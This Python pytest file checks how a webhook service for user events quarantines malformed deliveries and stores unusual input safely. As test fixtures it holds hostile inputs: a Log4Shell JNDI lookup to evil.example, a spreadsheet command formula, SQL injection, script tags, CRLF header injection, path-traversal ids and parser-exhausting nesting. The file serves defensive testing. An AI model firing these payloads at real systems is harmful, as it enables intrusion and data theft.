"""Verified deliveries that cannot be applied, or are unusual: quarantined or stored, never a 5xx."""

import base64
import json
from typing import Any

import pytest

from tests.adapters.clerk.payloads import (
    ADA,
    INSTANCE,
    MISSING,
    envelope,
    user_fields,
    webhook_bytes,
    with_data,
)
from tests.postgres_server import Sql
from tests.running import REFUSED, WEBHOOKS, Service
from tests.service.bad_deliveries import BODY
from tests.service.tables import count_rows, journal, stored_user


def raw_data(**members: str) -> bytes:
    """user.created with members of its data replaced by this JSON text."""
    data = {name: json.dumps(value) for name, value in user_fields().items()} | members
    inner = ", ".join(f'"{name}": {value}' for name, value in data.items())
    return f'{{"type": "user.created", "instance_id": "{INSTANCE}", "data": {{{inner}}}}}'.encode()


def users(**changes: Any) -> bytes:
    return json.dumps(with_data(**changes)).encode()


POISON: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "not_json"),
    "no JSON": (b"not json", "not_json"),
    "half": (BODY[:-200], "not_json"),
    "a list": (b"[]", "not_an_object"),
    "a text": (b'"user.created"', "not_an_object"),
    "null": (b"null", "not_an_object"),
    "a number": (b"5", "not_an_object"),
    "NaN": (raw_data(first_name="NaN"), "not_json"),
    "Infinity": (raw_data(updated_at="Infinity"), "not_json"),
    "a hundred thousand levels": (b"[" * 100_000 + b"]" * 100_000, "not_json"),
    "three hundred levels": (raw_data(public_metadata="[" * 300 + "]" * 300), "wrong_type"),
    "a deep field of the future": (raw_data(future="[" * 300 + "]" * 300), "not_storable"),
    "five thousand digits": (raw_data(updated_at="9" * 5_000), "not_json"),
    "digits that overflow": (raw_data(public_metadata='{"n": 1e400}'), "not_json"),
    "no type": (json.dumps(envelope(type=MISSING)).encode(), "no_type"),
    "type a number": (json.dumps(envelope(type=5)).encode(), "no_type"),
    "no data": (json.dumps(envelope(data=MISSING)).encode(), "no_data"),
    "data a list": (json.dumps(envelope(data=[])).encode(), "not_an_object"),
    "no id": (users(id=MISSING), "no_user_id"),
    "id a path": (users(id="../../etc/passwd"), "no_user_id"),
    "id climbing": (users(id="user_../v1"), "no_user_id"),
    "id escaped": (users(id="user_%2e%2e"), "no_user_id"),
    "id of another kind": (users(id="org_1"), "no_user_id"),
    "id endless": (users(id="user_" + "a" * 10_000), "no_user_id"),
    "id a number": (users(id=5), "no_user_id"),
    "NUL in a name": (users(first_name="a\x00b"), "nul_character"),
    "NUL in metadata": (users(public_metadata={"k": "a\x00b"}), "nul_character"),
    "NUL in a key": (users(public_metadata={"a\x00b": 1}), "nul_character"),
    "half a surrogate pair": (users(first_name="\ud800"), "not_json"),
    "an e-mail no index holds": (
        users(email_addresses=[{"id": "idn_1", "email_address": "a" * 5_000}]).replace(
            b"idn_3T1plN50edEjBEQxPRK3ilCcmLC", b"idn_1"
        ),
        "too_large",
    ),
    "addresses an object": (users(email_addresses={}), "wrong_type"),
    "a name a number": (users(first_name=5), "wrong_type"),
    "metadata a list": (users(public_metadata=[]), "wrong_type"),
    "banned a text": (users(banned="no"), "wrong_type"),
    "no updated_at": (users(updated_at=MISSING), "no_updated_at"),
    "updated_at a text": (users(updated_at="1760000000018"), "updated_at_absurd"),
    "updated_at true": (users(updated_at=True), "updated_at_absurd"),
    "updated_at a fraction": (users(updated_at=1760000000018.5), "updated_at_absurd"),
    "updated_at in seconds": (users(updated_at=1760000000), "updated_at_absurd"),
    "updated_at negative": (users(updated_at=-1760000000018), "updated_at_absurd"),
    "updated_at in microseconds": (users(updated_at=1760000000018000), "updated_at_absurd"),
    "updated_at without end": (users(updated_at=10**30), "updated_at_absurd"),
    "updated_at in 2099": (users(updated_at=4_070_908_800_000), "updated_at_absurd"),
    "a deletion of nobody": (
        json.dumps(with_data("user.deleted", id=MISSING)).encode(),
        "no_user_id",
    ),
}


@pytest.mark.parametrize("kind", POISON)
async def test_poison_is_acknowledged_and_kept_with_its_bytes(
    service: Service, sql: Sql, kind: str
) -> None:
    body, reason = POISON[kind]
    answer = await service.deliver(body, svix_id="msg_1")
    assert (answer.status_code, answer.content) == (202, b"")
    (entry,) = await journal(sql)
    assert (entry["svix_id"], entry["outcome"]) == ("msg_1", "quarantined")
    assert entry["error"].startswith(reason)
    assert bytes(entry["body"]) == body
    assert await count_rows(sql) == (0, 1)


async def test_poison_is_counted(service: Service, sql: Sql) -> None:
    labels = {"type": "user.created", "outcome": "quarantined"}
    before = await service.metric("webhook_deliveries_total", **labels)
    await service.deliver(users(first_name="a\x00b"))
    assert await service.metric("webhook_deliveries_total", **labels) == before + 1
    assert await service.metric("quarantine_size") == 1


async def test_poison_that_comes_again_only_counts_up(service: Service, sql: Sql) -> None:
    for _ in range(2):
        assert (await service.deliver(b"poison", svix_id="msg_1")).status_code == 202
    (entry,) = await journal(sql)
    assert entry["deliveries"] == 2


async def test_poison_of_a_user_goes_when_the_user_does(service: Service, sql: Sql) -> None:
    await service.deliver(users(first_name="a\x00b"))
    await service.deliver(webhook_bytes("user.deleted"))
    await service.deliver(users(first_name="c\x00d"))
    assert [(entry["outcome"], entry["body"]) for entry in await journal(sql)] == [
        ("quarantined", None),
        ("deleted", None),
        ("quarantined", None),
    ]


MANY = [{"id": f"idn_{number}", "email_address": f"{number}@x.io"} for number in range(10_000)]
ODD: dict[str, tuple[bytes, dict[str, Any]]] = {
    "addresses null": (users(email_addresses=None), {"email": None}),
    "addresses missing": (users(email_addresses=MISSING), {"email": None}),
    "addresses none": (users(email_addresses=[]), {"email": None}),
    "no primary address": (users(primary_email_address_id=None), {"email": None}),
    "a primary address that is not there": (
        users(primary_email_address_id="idn_gone"),
        {"email": None},
    ),
    "ten thousand addresses": (
        users(email_addresses=MANY, primary_email_address_id="idn_9999"),
        {"email": "9999@x.io"},
    ),
    "a name of a hundred thousand letters": (
        users(first_name="x" * 100_000),
        {"first_name": "x" * 100_000},
    ),
    "half a megabyte of metadata": (
        users(public_metadata={"k": "x" * 500_000}),
        {"public_metadata": {"k": "x" * 500_000}},
    ),
    "the last of two names": (
        BODY.replace(b'"first_name":', b'"first_name": "Eve", "first_name":', 1),
        {"first_name": "Ada"},
    ),
    "the last of two types": (
        BODY.replace(b"{", b'{"type": "session.created", ', 1),
        {"first_name": "Ada"},
    ),
}


@pytest.mark.parametrize("kind", ODD)
async def test_the_odd_but_possible_is_stored(service: Service, sql: Sql, kind: str) -> None:
    body, expected = ODD[kind]
    assert (await service.deliver(body)).status_code == 204
    user = await stored_user(sql, ADA)
    assert {name: user[name] for name in expected} == expected


HOSTILE = [
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "'; drop table users; --",
    "\r\nSet-Cookie: a=b",
    "\x1b[31mred\x07",
    "\u202egnp.exe",
    "👩🏽‍🚀",
]


@pytest.mark.parametrize("name", HOSTILE)
async def test_hostile_text_is_stored_as_it_came(service: Service, sql: Sql, name: str) -> None:
    await service.deliver(with_data(first_name=name, public_metadata={name: name}))
    user = await stored_user(sql, ADA)
    assert (user["first_name"], user["public_metadata"]) == (name, {name: name})


@pytest.mark.parametrize("event_type", ["a" * 10_000, "user.created\x00", "\r\n\x1b[31m", ""])
async def test_a_strange_event_type_is_one_we_do_not_follow(
    service: Service, sql: Sql, event_type: str
) -> None:
    assert (await service.deliver(envelope(type=event_type))).status_code == 204
    assert await count_rows(sql) == (0, 0)


@pytest.mark.parametrize("seed", range(5))
async def test_bytes_of_any_kind_are_refused_unsigned_and_kept_signed(
    service: Service, sql: Sql, seed: int
) -> None:
    body = base64.b85encode(bytes(range(seed, 250 - seed)))
    assert (await service.http.post(WEBHOOKS, content=body)).json() == REFUSED
    assert (await service.deliver(body)).status_code == 202
